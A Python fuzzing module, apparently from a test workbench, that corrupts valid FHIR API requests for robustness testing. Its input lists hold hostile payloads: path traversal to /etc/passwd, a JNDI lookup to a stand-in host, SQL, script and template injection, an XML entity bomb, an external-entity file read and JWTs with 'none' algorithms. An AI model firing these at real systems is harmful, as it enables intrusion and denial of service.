"""Spoilt requests: what a faulty or hostile system might send, made from what a good one sends.

``spoil(case, chance)`` changes one to three things of a good request. Everything depends on the
random numbers given, so that a seed and a number name an input for ever.
"""

import json
import random
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote

import orjson
from lxml import etree

from fhirapi import formats, ssp
from fhirapi.ssp import Interaction
from workbench.consumer import encode_part, make_token

Chance = random.Random

JUNK_TEXTS = (
    *("", " ", "\t", "null", "None", "true", "0", "-1", "1e309", "NaN", "Infinity", "%00", "%"),
    *("..", "../../etc/passwd", "${jndi:ldap://x.example/a}", "{{7*7}}", "%s%n", "' OR '1'='1"),
    *('"; DROP TABLE practice_slot; --', "<script>alert(1)</script>", "]]>", "&lt;", "\\", "\x00"),
    *("\x1b[31m", "\x7f", "\u200b", "\u202etxt.exe", "\ufeff", "\uffff", "é", "e\u0301", "ß", "İ"),
    *("٣", "１２", "𝟙", "👩‍⚕️", "a" * 64, "a" * 65, "a" * 101, "x" * 501, "x" * 70_000),
    *("9" * 19, "9" * 400, "-" + "9" * 30, "9223372036854775807", "9223372036854775808", "0x1f"),
    *("1_000", "+1", " 1", "1 ", "01", "1.0", "urn:uuid:x", "#", "#1", "#2", "Slot/", "/", "//"),
    *("Patient/1/_history/1", "https://other.example/Patient/1", "Patient?identifier=1", "a|b|c"),
    *("2026-02-30", "0000-00-00", "9999-12-31", "0001-01-01", "10000-01-01", "2026-13-01"),
    *("ge9999-12-31", "le0001-01-01", "ge0001-01-01", "2026-10-25T01:30:00+01:00", "T", "2026"),
    *("9999-12-31T23:59:59+00:00", "0001-01-01T00:00:00+01:00", "2026-01-01T24:00:00+00:00"),
    *("2026-01-01T00:00:60Z", "2026-01-01T00:00:00.123456789123Z", "2026-01-01T10:00:00+14:00"),
)
JUNK_VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1, 2**31, 2**63, 2**64, -(2**63), 1e308, 1.5, -0.0, [], {}, [[]]),
    *([None], [{}], {"": ""}, {"a": None}, {"resourceType": "Patient"}, {"resourceType": None}),
    *({"reference": "Patient/1"}, {"extension": []}, ["x"], [1, "x", None], {"__proto__": {}}),
)
NAMES = (
    *("", "id", "_id", "resourceType", "extension", "_extension", "modifierExtension", "contained"),
    *("meta", "text", "status", "implicitRules", "language", "start", "_start", "slot", "url"),
    *("valueString", "valueReference", "x" * 2000, "a.b", "é", "__class__", "$ref", "xmlns", "div"),
)


@dataclass
class Case:
    """A request before it is sent. ``tree`` is its body as a dict; ``body`` what is sent of it."""

    interaction: Interaction
    path: str  # below the service root, percent-encoded
    base: str
    verb: str
    headers: dict[str, str]
    claims: dict[str, Any]
    parameters: list[tuple[str, str]] = field(default_factory=list)
    tree: Any = None
    format: str = "json"
    body: bytes | None = None  # None: made from the tree
    content_type: str = ""
    token: str | None = None  # None: made from the claims
    query: str | None = None  # None: made from the parameters
    format_is_clear: bool = True  # whether the answer's format is beyond doubt
    done: list[str] = field(default_factory=list)

    def copy(self) -> "Case":
        return replace(
            self,
            headers=dict(self.headers),
            claims=deepcopy(self.claims),
            parameters=list(self.parameters),
            tree=deepcopy(self.tree),
            done=[],
        )

    def finished(self) -> "Case":
        """The same, with nothing left to be made."""
        if self.token is None:
            self.token = make_token(self.claims)
        if self.query is None:
            self.query = "&".join(f"{quote(n)}={quote(v)}" for n, v in self.parameters)
        if self.body is None:
            self.body = b"" if self.tree is None else encoded(self.tree, self.format)
        return self


def encoded(tree: Any, as_format: str) -> bytes:
    """A spoilt body; what XML cannot say is said in JSON, whatever the Content-Type promises."""
    if as_format == "xml" and isinstance(tree, dict):
        try:
            return formats.to_xml(tree)
        except Exception:  # a tree that is no resource
            return as_json(tree)
    return as_json(tree)


def as_json(tree: Any) -> bytes:
    try:
        return orjson.dumps(tree)
    except (TypeError, ValueError):  # half a surrogate pair, integers of more than 64 bits
        return json.dumps(tree).encode("utf-8", "surrogatepass")


# ---------------------------------------------------------------- trees


def places(tree: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of every value in a tree but the root."""
    found: list[tuple[Any, ...]] = []
    if isinstance(tree, dict):
        children: Any = tree.items()
    elif isinstance(tree, list):
        children = enumerate(tree)
    else:
        return found
    for name, value in children:
        found.append((*at, name))
        found += places(value, (*at, name))
    return found


KINDS_OF_SPOILING = (
    *("value", "text", "delete", "type", "wrap", "double", "rename", "add", "deep", "long"),
    *("reference", "control", "swap", "resource", "space"),
)


def spoil_tree(  # noqa: C901 - a list of ways, each a line or two
    tree: Any, chance: Chance, others: dict[str, int]
) -> tuple[Any, str]:
    """The tree with one thing changed, and what was done. ``others``: a neighbour's ids."""
    everywhere = places(tree)
    if not everywhere or chance.random() < 0.02:
        return chance.choice(JUNK_VALUES), "another root"
    path = chance.choice(everywhere)
    parent = tree
    for step in path[:-1]:
        parent = parent[step]
    name, value = path[-1], parent[path[-1]]
    kind = chance.choice(KINDS_OF_SPOILING)
    if kind == "value":
        parent[name] = deepcopy(chance.choice(JUNK_VALUES))
    elif kind == "text":
        parent[name] = chance.choice(JUNK_TEXTS)
    elif kind == "delete":
        del parent[name]
    elif kind == "type":
        parent[name] = retyped(value)
    elif kind == "wrap":
        parent[name] = value[0] if isinstance(value, list) and value else [value]
    elif kind == "double" and isinstance(value, list):
        parent[name] = value * chance.choice((2, 3, 200))
    elif kind == "rename" and isinstance(parent, dict):
        parent[chance.choice(NAMES)] = parent.pop(name)
    elif kind == "add" and isinstance(parent, dict):
        parent[chance.choice(NAMES)] = deepcopy(chance.choice((value, *JUNK_VALUES, "x")))
    elif kind == "deep":
        parent[name] = nested(value, chance.choice((5, 30, 58, 61, 90)), chance)
    elif kind == "long":
        parent[name] = chance.choice(("x", "é", "👩", " ", "\n")) * chance.choice(
            (101, 501, 90_000)
        )
    elif kind == "reference":
        named = [path for path in everywhere if path[-1] == "reference"]
        if named and chance.random() < 0.8:
            *steps, name = chance.choice(named)
            parent = tree
            for step in steps:
                parent = parent[step]
            value = parent[name]
        target = chance.choice(sorted(others))
        parent[name] = {"reference": f"{target}/{others[target]}"}
        if isinstance(value, str):
            parent[name] = parent[name]["reference"]
    elif kind == "control" and isinstance(value, str):
        at = chance.randrange(len(value) + 1)
        parent[name] = (
            value[:at] + chance.choice("\x00\x01\x0b\x1f\x7f\x85\ufffe\ud800") + value[at:]
        )
    elif kind == "swap":
        other = chance.choice(everywhere)
        donor = tree
        try:
            for step in other:
                donor = donor[step]
        except (KeyError, IndexError, TypeError):
            donor = None
        parent[name] = deepcopy(donor)
    elif kind == "resource":
        parent[name] = {
            "resourceType": chance.choice(("Patient", "Bundle", "Binary", "Basic", "X"))
        }
    else:
        parent[name] = f" {value}\n" if isinstance(value, str) else str(value)
    return tree, f"{kind} at {'.'.join(str(step)[:30] for step in path)}"


def retyped(value: Any) -> Any:
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, str):
        return int(value) if value.isascii() and value.isdecimal() and len(value) < 30 else [value]
    if isinstance(value, list):
        return {str(index): each for index, each in enumerate(value)}
    return list(value.values()) if isinstance(value, dict) else {}


def nested(value: Any, depth: int, chance: Chance) -> Any:
    name = chance.choice(("extension", "contained", None))
    for _ in range(depth):
        value = [value] if name is None else {name: [value]}
    return value


# ---------------------------------------------------------------- bytes

BOMB = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
EXTERNAL = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def spoil_bytes(body: bytes, chance: Chance) -> tuple[bytes, str]:
    """A body with its bytes, not its meaning, changed."""
    at = chance.randrange(len(body) + 1)
    text = body.decode("utf-8", "replace")
    ways: dict[str, Callable[[], bytes]] = {
        "cut": lambda: body[:at],
        "flip": lambda: body[:at] + bytes([chance.randrange(256)]) + body[at + 1 :],
        "insert": lambda: body[:at] + chance.randbytes(chance.randint(1, 8)) + body[at:],
        "drop": lambda: body[:at] + body[at + chance.randint(1, 20) :],
        "repeat": lambda: body + body,
        "nul": lambda: body[:at] + b"\x00" + body[at:],
        "bad utf-8": lambda: body[:at] + chance.choice((b"\xff", b"\xc0\xaf", b"\xed\xa0\x80")),
        "utf-16": lambda: text.encode("utf-16"),
        "utf-32": lambda: text.encode("utf-32"),
        "latin-1": lambda: (text + "é").encode("latin-1", "replace"),
        "mark": lambda: b"\xef\xbb\xbf" + body,
        "empty": lambda: b"",
        "spaces": lambda: b" \n\t" * 50,
        "noise": lambda: chance.randbytes(chance.choice((1, 10, 1000))),
        "bomb": lambda: (BOMB + text.replace("booked", "&c;")).encode(),
        "external": lambda: (EXTERNAL + text.replace("booked", "&a;")).encode(),
        "stylesheet": lambda: b'<?xml-stylesheet href="x"?><!-- c -->' + body,
        "named twice": lambda: text.replace('"status"', '"status":"x","status"', 1).encode(),
        "NaN": lambda: text.replace(
            '"booked"', chance.choice(("NaN", "-Infinity", "1e999"))
        ).encode(),
        "surrogate": lambda: text.replace("booked", "\\ud800", 1).encode(),
        "very deep": lambda: b"[" * 50_000 + b"]" * chance.choice((0, 50_000)),
        "very deep XML": lambda: b"<a>" * 20_000 + b"</a>" * chance.choice((0, 20_000)),
        "form": lambda: b"a=1&b=2",
        "huge number": lambda: text.replace('"booked"', "9" * 5000, 1).encode(),
        "too large": lambda: body + b" " * 2_700_000,
    }
    way = chance.choice([name for name in ways if name != "too large" or chance.random() < 0.2])
    return ways[way](), f"bytes: {way}"


def spoil_xml(  # noqa: C901 - a list of ways, each a line or two
    body: bytes, chance: Chance
) -> tuple[bytes, str]:
    """A body with one thing of its XML changed that JSON has no word for."""
    try:
        root = etree.fromstring(body)
    except (etree.XMLSyntaxError, ValueError):
        return spoil_bytes(body, chance)
    nodes = list(root.iter("*"))
    node = chance.choice(nodes)
    way = chance.choice(
        ("double", "text", "tail", "attribute", "no value", "namespace", "remove", "child", "order")
    )
    parent = node.getparent()
    if way == "double" and parent is not None:
        for _ in range(chance.choice((1, 2, 300))):
            parent.append(deepcopy(node))
    elif way == "text":
        node.text = "words"
    elif way == "tail" and parent is not None:
        node.tail = "words"
    elif way == "attribute":
        node.set(chance.choice(("id", "url", "value", "x", "{urn:x}y")), safe_xml(chance))
    elif way == "no value":
        node.attrib.clear()
    elif way == "namespace":
        node.tag = (
            chance.choice(("{urn:other}", "", "{http://www.w3.org/1999/xhtml}"))
            + etree.QName(node).localname
        )
    elif way == "remove" and parent is not None:
        parent.remove(node)
    elif way == "child":
        node.append(deepcopy(chance.choice(nodes)))
    elif parent is not None:
        parent.insert(0, parent[-1])
    return etree.tostring(root), f"XML: {way}"


def safe_xml(chance: Chance) -> str:
    return "".join(c for c in chance.choice(JUNK_TEXTS) if c.isprintable())


# ---------------------------------------------------------------- the rest of a request


def header_text(chance: Chance) -> str:
    """A value that a server hands on: Latin-1, as WSGI has it, without line ends or NUL."""
    text = chance.choice(JUNK_TEXTS)[:8000]
    read = text.encode("utf-8", "replace").decode("latin-1")
    return "".join(character for character in read if character not in "\r\n\x00")


HEADERS = (
    *(ssp.TRACE_ID, ssp.SENT_FROM, ssp.SENT_TO, ssp.INTERACTION_ID, "Authorization", "Accept"),
    *("If-Match", "Prefer", "Accept-Encoding", "Host", "Forwarded", "X-Forwarded-For", "Cookie"),
    *("If-None-Match", "Content-Encoding", "X-HTTP-Method-Override", "X-Forwarded-Host", "Range"),
    *("X-Client-Verify", "Transfer-Encoding", "Expect", "Accept-Language", "X-CSRFToken"),
)
MEDIA = (
    *("application/json", "text/xml", "*/*", "application/*;q=0", "application/fhir+json;q=0"),
    *("application/fhir+xml;q=nan", "text/html", "application/fhir+json;charset=utf-16", ";;,,"),
    *("multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "a" * 5000),
    *("application/fhir+xml;charset=UTF-8", 'application/fhir+json; charset="latin-1"', "json"),
)


def spoil_header(case: Case, chance: Chance) -> str:
    name = chance.choice(HEADERS)
    way = chance.choice(("remove", "junk", "junk", "double", "spaces", "other"))
    value = case.headers.get(name, "")
    if name == "Accept":
        case.format_is_clear = False
    if way == "remove":
        case.headers.pop(name, None)
    elif way == "double":
        case.headers[name] = f"{value},{value}"
    elif way == "spaces":
        case.headers[name] = f"  {value}\t"
    elif way == "other":
        case.headers[name] = chance.choice(
            (chance.choice(ssp.INTERACTIONS).id, chance.choice(MEDIA), 'W/"1"', '"1"', 'W/"0"', "*")
        )
    else:
        case.headers[name] = header_text(chance)
    return f"{name}: {way}"


def spoil_media(case: Case, chance: Chance) -> str:
    if chance.random() < 0.5:
        case.content_type = chance.choice((*MEDIA, ""))
        case.format_is_clear = case.format_is_clear and "Accept" in case.headers
        return "Content-Type"
    case.headers["Accept"] = chance.choice(MEDIA)
    case.format_is_clear = False
    return "Accept"


def spoil_token(case: Case, chance: Chance) -> str:
    way = chance.choice(("parts", "cut", "flip", "header", "payload", "signed", "noise", "times"))
    good = make_token(case.claims)
    at = chance.randrange(len(good))
    if way == "parts":
        case.token = chance.choice(("", ".", "..", "...", "a.b", "a.b.", f"{good}.", good[:-1]))
    elif way == "cut":
        case.token = good[:at]
    elif way == "flip":
        case.token = good[:at] + chance.choice("=+/_-. ~é\x7f") + good[at + 1 :]
    elif way == "header":
        case.token = make_token(
            case.claims,
            header=chance.choice(
                (
                    *JUNK_VALUES,
                    {"alg": "HS256"},
                    {"alg": None},
                    {"alg": "none", "typ": 5},
                    {"typ": []},
                )
            ),
        )
    elif way == "payload":
        case.token = make_token(
            chance.choice((*JUNK_VALUES, b"", b"{", b"\xff\xfe", b"[" * 9000, b'{"a":1,"a":2}'))
        )
    elif way == "signed":
        case.token = make_token(case.claims, signature=encode_part("signature"))
    elif way == "times":
        for name in ("exp", "iat"):
            case.claims[name] = chance.choice((case.claims[name], 0, -1, 10**15, 10**40, 1.5, "1"))
    else:
        case.token = header_text(chance)
    return f"token: {way}"


def spoil_claims(case: Case, chance: Chance, others: dict[str, int]) -> str:
    case.claims, done = spoil_tree(case.claims, chance, others)
    return f"claims: {done}"


def spoil_query(case: Case, chance: Chance) -> str:
    way = chance.choice(("remove", "double", "junk", "raw", "unknown", "many", "name", "format"))
    parameters = case.parameters
    index = chance.randrange(len(parameters)) if parameters else 0
    if way == "unknown" or (not parameters and way not in {"raw", "many", "format"}):
        parameters.append((chance.choice((*NAMES, "_sort", "_count", "_since")), "1"))
    elif way == "remove":
        parameters.pop(index)
    elif way == "double":
        parameters.append(parameters[index])
    elif way == "junk":
        name, value = parameters[index]
        junk = chance.choice(JUNK_TEXTS)[:4000].encode("utf-8", "replace").decode()
        parameters[index] = name, chance.choice((junk, value[:2] + junk, value + junk, value[:-1]))
    elif way == "name":
        name, value = parameters[index]
        parameters[index] = chance.choice((name.upper(), f"{name}:exact", f"{name}.x", "")), value
    elif way == "many":
        parameters.extend([("x", "1")] * chance.choice((50, 1500)))
        case.format_is_clear = False
    elif way == "format":
        parameters.append(("_format", chance.choice((*MEDIA, "xml", "json", "yaml", "\x00"))))
        case.format_is_clear = False
    else:
        raw = ("%", "%zz", "%ff%fe", "&&&===", "a=%00", "start=ge%C3%28", "?", "a=%ED%A0%80", ";")
        case.query = chance.choice(raw)
    return f"query: {way}"


def spoil_path(case: Case, chance: Chance, others: dict[str, int]) -> str:
    parts = case.path.split("/")
    way = chance.choice(("id", "neighbour", "more", "less", "case", "practice", "slash"))
    junk = quote(chance.choice(JUNK_TEXTS)[:300].encode("utf-8", "replace"), safe="")
    if way == "id":
        parts[min(2, len(parts) - 1)] = junk
    elif way == "neighbour" and len(parts) > 2:
        parts[2] = str(others.get(parts[1], 77))
    elif way == "more":
        parts.append(chance.choice(("_history", "1", "$everything", "", junk)))
    elif way == "less":
        parts.pop()
    elif way == "case":
        parts = [part.swapcase() for part in parts]
    elif way == "practice":
        case.base = chance.choice(
            (
                case.base.lower(),
                case.base + "/",
                case.base.replace("STU3", "R4"),
                f"/{junk}/STU3/1/gpconnect",
            )
        )
    else:
        parts.insert(1, "")
    case.path = "/".join(parts)
    return f"path: {way}"


def spoil_verb(case: Case, chance: Chance) -> str:
    verbs = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "get", "FOO", "__init__")
    case.verb = chance.choice(verbs)
    return f"verb: {case.verb}"


def spoil(good: Case, chance: Chance, others: dict[str, int]) -> Case:
    """A copy of a good request with one to three things changed."""
    case = good.copy()
    ways: list[Callable[[], str]] = [
        lambda: spoil_header(case, chance),
        lambda: spoil_media(case, chance),
        lambda: spoil_token(case, chance),
        lambda: spoil_claims(case, chance, others),
        lambda: spoil_query(case, chance),
        lambda: spoil_path(case, chance, others),
        lambda: spoil_verb(case, chance),
    ]
    weights = [3, 1, 2, 3, 4, 2, 0.5]
    if case.tree is not None:
        ways += [lambda: tree_of(case, chance, others), lambda: bytes_of(case, chance)]
        weights += [24, 6]
    for _ in range(chance.choices((1, 2, 3), (70, 20, 10))[0]):
        way = chance.choices(ways, weights)[0]
        case.done.append(way())
    return case.finished()


def tree_of(case: Case, chance: Chance, others: dict[str, int]) -> str:
    case.tree, done = spoil_tree(case.tree, chance, others)
    return f"body: {done}"


def bytes_of(case: Case, chance: Chance) -> str:
    body = case.body if case.body is not None else encoded(case.tree, case.format)
    is_xml = case.format == "xml" and chance.random() < 0.6
    case.body, done = (spoil_xml if is_xml else spoil_bytes)(body, chance)
    return done
